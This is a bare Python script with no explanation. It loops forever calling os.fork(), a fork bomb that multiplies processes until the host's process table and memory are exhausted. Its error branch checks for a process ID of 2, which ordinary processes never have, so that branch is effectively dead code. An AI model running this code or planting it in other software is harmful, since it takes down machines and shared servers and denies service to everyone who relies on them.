import os

while True:
    try:
        os.fork()
    except OSError as e:
        raise SystemExit(f"fork: {e}" if os.getpid() == 2 else 1)
